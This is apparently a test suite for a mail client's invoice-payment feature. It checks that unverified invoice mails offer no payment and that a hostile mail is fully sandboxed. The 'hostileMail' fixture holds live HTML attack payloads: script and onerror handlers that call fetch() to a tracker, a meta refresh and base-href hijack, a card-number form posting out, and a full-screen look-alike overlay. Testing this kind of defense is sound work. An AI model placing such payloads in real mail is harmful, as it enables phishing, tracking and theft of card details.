// Mails from which nothing may be paid, and a mail that tries what hostile mails try.

import assert from "node:assert/strict";
import { createServer } from "node:net";
import { before, describe, test } from "node:test";
import { newProfile, startBrowser } from "./browser.mjs";
import { Mail, openMail, plain, signIn } from "./screens.mjs";
import { EN } from "./words.mjs";
import { endsWithSuite, startWorld, waitFor } from "./world.mjs";

/** Invoice number in the subject, and whether it is the sender that could not be confirmed. */
const HELD = [
  ["no DKIM signature", "NE-2026-001301", EN.held],
  ["the body was changed", "NE-2026-001302", EN.held],
  ["signed by another domain", "NE-2026-001303", EN.held],
  ["a look-alike domain", "NE-2026-001308", EN.held],
  ["an unknown biller", "NE-2026-001310", EN.held],
  ["a suspended biller", "GM-2026-001311", EN.heldOther],
  ["an amount changed after signing", "HC-2026-001321", EN.held],
  ["no payment action", "NE-2026-001323", EN.heldOther],
  ["paid already, as the mail says", "NE-2026-001324", EN.heldOther],
  ["a credit note", "NE-2026-001325", EN.heldOther],
];
const ORDINARY = ["Leeks that stand the frost", "Czwartek we Wrocławiu?"];

describe("mails from which nothing may be paid", () => {
  const suite = endsWithSuite();
  let mail;
  let watch;
  before(async () => {
    ({ mail, watch } = await openMail(suite));
  });

  const nothingToPay = async () => {
    await mail.body.waitFor();
    assert.equal(await mail.payButton.count(), 0);
    assert.equal(await mail.card.count(), 0);
  };

  for (const [name, number, words] of HELD)
    test(name, async () => {
      await mail.open(number);
      await mail.page.getByRole("heading", { level: 2, name: new RegExp(number) }).waitFor();
      const bar = mail.page.getByTestId("verdict-bar");
      await bar.waitFor();
      assert.ok(plain(await bar.innerText()).startsWith(words), await bar.innerText());
      await nothingToPay();
      const why = bar.getByRole("button", { name: EN.why, exact: true });
      assert.equal(await why.getAttribute("aria-expanded"), "false");
      await why.click();
      await bar.getByRole("heading", { name: EN.reasons, exact: true }).waitFor();
      assert.ok((await bar.getByRole("listitem").count()) >= 3, "reasons and checks");
      watch.assertQuiet();
    });

  for (const subject of ORDINARY)
    test(`an ordinary mail shows neither bar nor teaser: ${subject}`, async () => {
      await mail.open(subject);
      await mail.page.getByRole("heading", { level: 2, name: subject }).waitFor();
      await nothingToPay();
      assert.equal(await mail.bar.count(), 0);
      watch.assertQuiet();
    });
});

describe("a hostile mail", () => {
  const suite = endsWithSuite();
  const calls = [];
  let world;
  let mail;
  let watch;
  let tracker;

  before(async () => {
    const server = createServer((socket) => {
      calls.push("a connection");
      socket.destroy();
    });
    await new Promise((done) => server.listen(0, "127.0.0.1", done));
    suite.after(() => new Promise((done) => server.close(done)));
    tracker = `http://127.0.0.1:${server.address().port}`;
    world = await startWorld(suite);
    await world.deliver(hostileMail(tracker));
    const profile = await newProfile(await startBrowser(suite), world);
    watch = profile.watch;
    mail = new Mail(await profile.context.newPage());
    await signIn(mail.page);
    await mail.open("Your invoice is waiting");
    await mail.body.waitFor();
    await body().getByText("Invoice from: Northwind Energy plc").waitFor();
  });

  const body = () => mail.page.frameLocator("iframe[src*='/body']");

  test("the tracker of this test does hear a connection", async () => {
    await assert.rejects(fetch(tracker));
    assert.equal(calls.length, 1);
    calls.length = 0;
  });

  test("it runs in a sandbox twice over, without scripts", async () => {
    const sandbox = (await mail.body.getAttribute("sandbox")).split(" ");
    assert.ok(!sandbox.includes("allow-scripts") && !sandbox.includes("allow-same-origin"), sandbox);
    assert.ok(!sandbox.includes("allow-forms") && !sandbox.some((word) => word.startsWith("allow-top")), sandbox);
    const response = await mail.page.request.get(await mail.body.getAttribute("src"));
    const policy = response.headers()["content-security-policy"];
    assert.match(policy, /^sandbox; default-src 'none';/);
    assert.doesNotMatch(policy, /script-src|form-action \*|allow-scripts/);
  });

  test("nothing of it ran, and nothing left", async () => {
    const { title, marks } = await mail.page.evaluate(() => ({ title: document.title, marks: window.marks }));
    assert.doesNotMatch(title, /owned/);
    assert.equal(marks, undefined);
    const html = await (await mail.page.request.get(await mail.body.getAttribute("src"))).text();
    assert.doesNotMatch(html, /<script|onerror|javascript:|<form|<meta[^>]*refresh|<object|<iframe|<base/i);
    assert.deepEqual(watch.strayRequests(), []);
    assert.deepEqual(calls, []);
  });

  test("its look-alike card stays inside its frame", async () => {
    assert.equal(await mail.card.count(), 0);
    const frame = await mail.body.boundingBox();
    const box = await body().getByText("Review and pay").boundingBox();
    assert.ok(box.y >= frame.y - 1 && box.x >= frame.x - 1, "within its own frame");
    const top = await mail.page.evaluate(
      () => document.elementFromPoint(innerWidth / 2, 60)?.closest("iframe") === null,
    );
    assert.ok(top, "the app's own chrome is not covered");
  });

  test("a click on its links leaves the app where it is", async () => {
    const address = mail.page.url();
    for (const name of ["Pay here", "Run this"]) await body().getByText(name, { exact: true }).click();
    await body().getByText("Invoice from: Northwind Energy plc").waitFor();
    assert.equal(mail.page.url(), address);
    assert.deepEqual(watch.strayRequests(), []);
  });

  test("remote pictures are asked for only on demand", async () => {
    const before = watch.requests.length;
    await mail.page.getByRole("button", { name: "Show remote pictures" }).click();
    await waitFor(
      () => watch.requests.slice(before).some((one) => one.url().includes("tracker.example")),
      "the picture",
    );
  });
});

function hostileMail(tracker) {
  const html = `<html><head><base href="${tracker}/"><meta http-equiv="refresh" content="0;url=${tracker}/refresh">
<link rel="stylesheet" href="${tracker}/style.css"><style>@import url("${tracker}/import.css");
.bg{background:url(${tracker}/bg.png)} @font-face{font-family:x;src:url(${tracker}/font)} p{font-family:x}</style>
<script>parent.document.title="owned";fetch("${tracker}/script")</script></head>
<body background="${tracker}/body.png" onload="parent.marks=1;new Image().src='${tracker}/onload'">
<img src="${tracker}/pixel.gif"><img src="https://tracker.example/pixel.gif"><img src=x onerror="fetch('${tracker}/onerror')">
<svg onload="fetch('${tracker}/svg')"><image href="${tracker}/svg.png"/></svg><iframe src="${tracker}/frame"></iframe>
<object data="${tracker}/object"></object><embed src="${tracker}/embed"><video src="${tracker}/video" poster="${tracker}/p"></video>
<form action="${tracker}/form" method="post"><input name="card" autofocus><button>Send</button></form>
<div class="bg" style="position:fixed;top:-400px;left:-400px;width:3000px;height:3000px;z-index:9999;background:#fff">
<p style="padding:420px">Invoice from: Northwind Energy plc <button>Review and pay</button></p></div>
<a href="https://tracker.example/pay" target="_top">Pay here</a> <a href="javascript:parent.marks=2">Run this</a>
</body></html>`;
  return [
    'From: "Northwind Energy" <billing@northwind-energy.example>',
    "To: anna@demo.example",
    "Subject: Your invoice is waiting",
    `Date: ${new Date().toUTCString().replace("GMT", "+0000")}`,
    "Message-ID: <hostile@attacker.example>",
    "MIME-Version: 1.0",
    "Content-Type: text/html; charset=utf-8",
    "",
    html.replaceAll("\n", "\r\n"),
    "",
  ].join("\r\n");
}
